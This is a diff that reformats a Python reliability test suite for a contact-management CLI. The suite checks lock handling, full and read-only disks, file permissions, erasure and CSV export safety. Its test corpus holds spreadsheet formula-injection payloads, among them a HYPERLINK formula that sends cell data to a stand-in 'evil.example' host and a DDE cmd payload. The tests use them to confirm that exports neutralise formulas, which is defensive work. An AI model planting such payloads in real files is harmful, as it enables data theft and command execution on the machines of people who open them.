@@ -17,18 +17,41 @@ from pathlib import Path
 
 from tests.reliability.attacks import Attack, _cli, _database, _env, _sha
 
-CORPUS = ["=1+2", '=HYPERLINK("http://evil.example/?d="&A1,"klik")', "=cmd|' /C calc'!A0",
-          "+31 6 1234 5678", "-10", "@SUM(A1:A9)", "\t=1+2", "\r=1+2", " =1+2", "'=1+2",
-          '"=1+2"', "a;=1+2", "a,=1+2", "=", "==", "+", "-", "#N/A", "x;y;z", 'a"b;c']  # fmt: skip
+CORPUS = [
+    "=1+2",
+    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
+    "=cmd|' /C calc'!A0",
+    "+31 6 1234 5678",
+    "-10",
+    "@SUM(A1:A9)",
+    "\t=1+2",
+    "\r=1+2",
+    " =1+2",
+    "'=1+2",
+    '"=1+2"',
+    "a;=1+2",
+    "a,=1+2",
+    "=",
+    "==",
+    "+",
+    "-",
+    "#N/A",
+    "x;y;z",
+    'a"b;c',
+]
 
 
 @contextlib.contextmanager
 def _mounted(folder: Path, options: str):
     """A small tmpfs (root only); yields False when it cannot be mounted."""
     folder.mkdir(exist_ok=True)
-    ok = os.geteuid() == 0 and subprocess.run(
-        ["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(folder)], capture_output=True
-    ).returncode == 0  # fmt: skip
+    ok = (
+        os.geteuid() == 0
+        and subprocess.run(
+            ["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(folder)], capture_output=True
+        ).returncode
+        == 0
+    )
     try:
         yield ok
     finally:
@@ -62,8 +85,10 @@ def locks_and_messages(folder: Path) -> Attack:
     code, err = _cli("demo", "--db", str(link), "--contacts", "1")
     lock.release()
     a.check(code == 2 and "open in SOOSR Desk" in err, "symlink past the lock")
-    for name, options, words in (("ro", "size=16m", "cannot write in the folder"),
-                                 ("full", "size=16m", "full")):  # fmt: skip
+    for name, options, words in (
+        ("ro", "size=16m", "cannot write in the folder"),
+        ("full", "size=16m", "full"),
+    ):
         with _mounted(folder / name, options) as ok:
             if not ok:
                 continue
@@ -91,14 +116,18 @@ def failures_underneath(folder: Path) -> Attack:
     def one_line(code: int, err: str, what: str) -> None:
         """Exit 2, no traceback; the last line is the message (progress lines before it)."""
         last = (err.strip().splitlines() or [""])[-1]
-        a.check(code == 2 and "Traceback" not in err and "Exception" not in err and last != "",
-                f"{what}: exit {code} {err.strip()[-120:]}")  # fmt: skip
+        a.check(
+            code == 2 and "Traceback" not in err and "Exception" not in err and last != "",
+            f"{what}: exit {code} {err.strip()[-120:]}",
+        )
 
     for cmd in writers:
         one_line(*_cli(cmd[0], "--db", str(db), *cmd[1:], str(out)), f"{cmd[0]} into a folder")
         one_line(*_cli(cmd[0], "--db", str(db), *cmd[1:], "."), f"{cmd[0]} --out .")
-        one_line(*_cli(cmd[0], "--db", str(db), *cmd[1:], str(out / "gone" / "x")),
-                 f"{cmd[0]} missing folder")  # fmt: skip
+        one_line(
+            *_cli(cmd[0], "--db", str(db), *cmd[1:], str(out / "gone" / "x")),
+            f"{cmd[0]} missing folder",
+        )
     real_fsync = safe_text.os.fsync
 
     def full(fd):
@@ -107,10 +136,12 @@ def failures_underneath(folder: Path) -> Attack:
     safe_text.os.fsync = full
     try:
         for cmd in writers:
-            one_line(*_cli(cmd[0], "--db", str(db), *cmd[1:], str(out / "f.xlsx")),
-                     f"{cmd[0]} ENOSPC")  # fmt: skip
-        one_line(*_cli("statement", "--db", str(db), "--out", str(out), "--publish"),
-                 "statement ENOSPC")  # fmt: skip
+            one_line(
+                *_cli(cmd[0], "--db", str(db), *cmd[1:], str(out / "f.xlsx")), f"{cmd[0]} ENOSPC"
+            )
+        one_line(
+            *_cli("statement", "--db", str(db), "--out", str(out), "--publish"), "statement ENOSPC"
+        )
     finally:
         safe_text.os.fsync = real_fsync
     a.check(list(out.iterdir()) == [], f"partial files: {[p.name for p in out.iterdir()]}")
@@ -119,18 +150,27 @@ def failures_underneath(folder: Path) -> Attack:
             if not ok:
                 continue
             if name == "full":
-                code, err = _cli("demo", "--create", "--db", str(folder / name / "d.db"),
-                                 "--contacts", "3000")  # fmt: skip
+                code, err = _cli(
+                    "demo", "--create", "--db", str(folder / name / "d.db"), "--contacts", "3000"
+                )
                 one_line(code, err, "demo onto a full disk")
                 a.check(not (folder / name / "d.db").exists(), "half a demo database left")
                 _fill(folder / name)
             for cmd in writers:
-                one_line(*_cli(cmd[0], "--db", str(db), *cmd[1:], str(folder / name / "x.xlsx")),
-                         f"{cmd[0]} on a {name} disk")  # fmt: skip
-            one_line(*_cli("letters", "--db", str(db), "--out", str(folder / name / "l")),
-                     f"letters on a {name} disk")  # fmt: skip
-    proc = subprocess.Popen([sys.executable, "-m", "soosr_desk", "check", "--db", str(db)],
-                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=_env())  # fmt: skip
+                one_line(
+                    *_cli(cmd[0], "--db", str(db), *cmd[1:], str(folder / name / "x.xlsx")),
+                    f"{cmd[0]} on a {name} disk",
+                )
+            one_line(
+                *_cli("letters", "--db", str(db), "--out", str(folder / name / "l")),
+                f"letters on a {name} disk",
+            )
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "soosr_desk", "check", "--db", str(db)],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        env=_env(),
+    )
     proc.stdout.close()
     err = proc.stderr.read().decode()
     one_line(proc.wait(timeout=60), err, "check | head")
@@ -141,9 +181,15 @@ def wrong_paths(folder: Path) -> Attack:
     """R32: commands on a missing file, on another program's empty SQLite file, and demo on
     a real database: nothing made, nothing changed."""
     a = Attack("R32", "wrong paths: missing, foreign, real data")
-    for cmd in (["check"], ["due"], ["export", "register", "--out", str(folder / "x.xlsx")],
-                ["mailing", "--out", str(folder / "m.csv")], ["statement", "--out", str(folder)],
-                ["erase", "1", "--yes"], ["demo"]):  # fmt: skip
+    for cmd in (
+        ["check"],
+        ["due"],
+        ["export", "register", "--out", str(folder / "x.xlsx")],
+        ["mailing", "--out", str(folder / "m.csv")],
+        ["statement", "--out", str(folder)],
+        ["erase", "1", "--yes"],
+        ["demo"],
+    ):
         path = folder / f"typo-{cmd[0]}.db"
         code, _ = _cli(cmd[0], "--db", str(path), *cmd[1:])
         a.check(code == 2 and not path.exists(), f"{cmd[0]} on a missing file")
@@ -177,15 +223,27 @@ def sole_traders(folder: Path, people: int = 20) -> Attack:
 
     a = Attack("R33", "sole traders' companies after the erasure")
     db = open_database(folder / "sole.db")
-    ids = [cs.save_contact(cs.ContactData(first_name="Zyx", last_name=f"Eenmans{i}",
-                                          company_name=f"Zyxbolt Holding {i}")).id
-           for i in range(people)]  # fmt: skip
-    shared = [cs.save_contact(cs.ContactData(first_name="Q", last_name=f"Gedeeld{i}",
-                                             company_name="Gedeelde BV")).id for i in range(2)]  # fmt: skip
+    ids = [
+        cs.save_contact(
+            cs.ContactData(
+                first_name="Zyx", last_name=f"Eenmans{i}", company_name=f"Zyxbolt Holding {i}"
+            )
+        ).id
+        for i in range(people)
+    ]
+    shared = [
+        cs.save_contact(
+            cs.ContactData(first_name="Q", last_name=f"Gedeeld{i}", company_name="Gedeelde BV")
+        ).id
+        for i in range(2)
+    ]
     erasure.erase_many(ids + shared[:1], reason="manual")
     for i in range(people):
-        a.check(not m.Company.select().where(m.Company.name == f"Zyxbolt Holding {i}").exists()
-                and not cs.company_names(f"Zyxbolt Holding {i}"), f"company {i} left")  # fmt: skip
+        a.check(
+            not m.Company.select().where(m.Company.name == f"Zyxbolt Holding {i}").exists()
+            and not cs.company_names(f"Zyxbolt Holding {i}"),
+            f"company {i} left",
+        )
     a.check(m.Company.select().where(m.Company.name == "Gedeelde BV").exists(), "shared gone")
     close_database(db)
     m.database_proxy.initialize(None)
@@ -203,8 +261,14 @@ def mailing_in_dutch_excel(folder: Path) -> Attack:
     path = folder / "mail.db"
     db = open_database(path)
     for i, payload in enumerate(CORPUS):
-        cs.save_contact(cs.ContactData(first_name=payload, last_name=f"N{i}",
-                                       email=f"p{i}@example.nl", relation="customer_contact"))  # fmt: skip
+        cs.save_contact(
+            cs.ContactData(
+                first_name=payload,
+                last_name=f"N{i}",
+                email=f"p{i}@example.nl",
+                relation="customer_contact",
+            )
+        )
     close_database(db)
     m.database_proxy.initialize(None)
     out = folder / "m.csv"
@@ -214,8 +278,10 @@ def mailing_in_dutch_excel(folder: Path) -> Attack:
     for line in lines:
         cells = next(csv.reader(io.StringIO(line), delimiter=";"))
         quoted = line.startswith('"') and line.endswith('"')
-        a.check(quoted and not any(c.startswith(("=", "+", "-", "@")) for c in cells),
-                f"line {line[:40]}")  # fmt: skip
+        a.check(
+            quoted and not any(c.startswith(("=", "+", "-", "@")) for c in cells),
+            f"line {line[:40]}",
+        )
     a.check(len(lines) == len(CORPUS), f"{len(lines)} of {len(CORPUS)} rows ({err.strip()})")
     return a
 
@@ -245,12 +311,22 @@ def file_modes(folder: Path) -> Attack:
             a.check(p.exists() and p.stat().st_mode & 0o077 == 0, f"{p.name}")
         close_database(opened)
         m.database_proxy.initialize(None)
-        logs = [Path(h.baseFilename) for h in logging.getLogger().handlers
-                if isinstance(h, logging.FileHandler) and getattr(h, "_soosr", False)]  # fmt: skip
-        files = [db, audit.anchor_path(db), *logs, backup,
-                 *folder.glob("modes.db.before-restore-*")]  # fmt: skip
+        logs = [
+            Path(h.baseFilename)
+            for h in logging.getLogger().handlers
+            if isinstance(h, logging.FileHandler) and getattr(h, "_soosr", False)
+        ]
+        files = [
+            db,
+            audit.anchor_path(db),
+            *logs,
+            backup,
+            *folder.glob("modes.db.before-restore-*"),
+        ]
         for p in files:
-            a.check(p.exists() and p.stat().st_mode & 0o077 == 0, f"{p.name} {oct(p.stat().st_mode)}")
+            a.check(
+                p.exists() and p.stat().st_mode & 0o077 == 0, f"{p.name} {oct(p.stat().st_mode)}"
+            )
         tmp = data_dir() / "tmp"
         a.check(tmp.is_dir() and tmp.stat().st_mode & 0o077 == 0, "temp folder")
     finally:
